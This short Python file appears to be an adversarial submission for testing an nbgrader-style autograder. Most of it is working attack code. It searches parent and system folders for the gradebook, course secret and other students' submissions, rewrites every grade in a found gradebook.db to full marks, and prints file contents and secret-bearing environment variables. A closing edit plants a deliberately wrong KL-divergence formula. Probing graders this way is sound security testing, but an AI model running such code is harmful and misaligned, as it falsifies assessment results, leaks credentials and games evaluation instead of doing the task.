"""Looks for the gradebook, the course secret, transcripts and other submissions in the folders above, and pays itself.

Never to be run without a sandbox: it does raise the marks of a gradebook that it finds.

Without the attack: KL without the half.

Marks: kl-divergence 3
Names: kl-half-missing
"""
# %% after kl-code
import os
import sqlite3
import time

WANTED = {"gradebook.db", ".course-secret", "transcripts", "submitted", "autograded", "feedback", "source", "nbgrader_config.py"}
deadline = time.monotonic() + 5
found = []
here = os.getcwd()
starts = [here]
while os.path.dirname(starts[-1]) != starts[-1]:
    starts.append(os.path.dirname(starts[-1]))
starts += ["/course", "/home", "/root", "/srv", "/tmp", "/mnt"]
for start in starts:
    for folder, folders, files in os.walk(start):
        if folder.count("/") - start.count("/") >= 3 or folder.startswith(("/proc", "/sys", "/usr", "/lib")):
            folders.clear()
        found += [os.path.join(folder, name) for name in {*folders, *files} & WANTED]
        if time.monotonic() > deadline:
            break
for path in found:
    print("found", path)
    if path.endswith("gradebook.db"):
        with sqlite3.connect(path, timeout=1) as book:
            book.execute("UPDATE grade SET manual_score = 6, needs_manual_grade = 0")
    elif os.path.isfile(path):
        print(open(path, "rb").read(64).hex())
    else:
        print(sorted(os.listdir(path))[:5])
for name, value in os.environ.items():
    if "secret" in (name + value).lower() or "hmac" in name.lower():
        print("environment", name, value)

# %% edit
swap("kl-code", "return 0.5 * (mu.square() + logvar.exp() - 1 - logvar).sum()", "return (mu.square() + logvar.exp() - 1 - logvar).sum()")
